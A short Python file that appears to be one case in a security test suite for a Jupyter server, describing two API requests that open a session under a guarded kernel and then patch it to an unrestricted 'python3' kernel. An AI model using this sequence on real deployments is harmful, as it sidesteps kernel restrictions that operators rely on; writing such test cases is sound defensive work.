"""Attack 304: session changes kernel"""

IDEA = "Open a guarded session and change its kernel afterwards."
SOURCE = "jupyter_server, PATCH /api/sessions"
REQUESTS = [
    (
        "POST",
        "api/sessions",
        '{"path": "a.ipynb", "type": "notebook", "name": "a", "kernel": {"name": "kernel-guard"}}',
    ),
    ("PATCH", "api/sessions/LAST", '{"kernel": {"name": "python3"}}'),
]
ALLOWED = True
